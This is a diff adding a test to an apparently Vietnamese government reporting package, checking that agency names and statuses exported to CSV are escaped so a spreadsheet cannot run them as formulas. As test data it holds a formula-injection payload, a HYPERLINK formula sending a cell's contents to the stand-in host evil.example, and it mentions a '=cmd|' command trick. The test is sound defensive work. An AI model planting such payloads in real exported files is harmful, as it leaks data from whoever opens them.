@@ -362,3 +362,29 @@ def test_a_difference_about_an_over_long_dossier_number_or_agency_code_is_kept(b
     assert len(kept) == 3 and all(len(k) <= 200 and d.aspect == "missing" for k, d in kept.items())
     assert sorted(k[:188] for k in kept if k != "D-2") == [long_no[:187] + "…"] * 2  # told apart, not merged
     assert kept["D-2"].agency_code == "A" * 51 + "…" + kept["D-2"].agency_code[-12:]
+
+
+def test_peer_text_in_the_csv_files_is_never_a_spreadsheet_formula():
+    """The CSV files are written for a spreadsheet (UTF-8 with a BOM). Text a peer supplied (an
+    agency name from the one-stop, a status the portal holds) beginning with = + - @ was written
+    as is, and a spreadsheet runs it as a formula (=HYPERLINK(...) leaking data, =cmd|...)."""
+    import csv as csv_module
+    import io
+
+    from lienthong.reports.agreement import AgreementReport, CheckResult, Difference
+    from lienthong.reports.kpi import KpiReport, KpiRow
+    from lienthong.reports.render import agreement_csv, kpi_csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    diff = Difference("dossier_status", "D-1", "status", "4 (processing)", hostile, AS_OF, 0,
+                      agency_code="+AG", dossier_no="D-1", detail="@SUM(1)")
+    rows = list(csv_module.reader(io.StringIO(agreement_csv(
+        AgreementReport("r-1", AS_OF, [CheckResult("dossier_status", "a↔b", AS_OF, 1, 0, [diff])])))))
+    cells = dict(zip(rows[0], rows[1]))
+    assert (cells["value_b"], cells["agency_code"], cells["detail"]) == ("'" + hostile, "'+AG", "'@SUM(1)")
+    assert (cells["record_key"], cells["age_seconds"]) == ("D-1", "0")
+    period = parse_period("2026-11-01", "2026-11-30")
+    province = KpiRow("*", "Toàn tỉnh")
+    report = KpiReport(period, AS_OF, AS_OF, (0.5,), province, [KpiRow("AG", "-1+1", received=-0)], [], {})
+    rows = list(csv_module.reader(io.StringIO(kpi_csv(report))))
+    assert [dict(zip(rows[0], r))["agency_name"] for r in rows[1:]] == ["Toàn tỉnh", "'-1+1"]
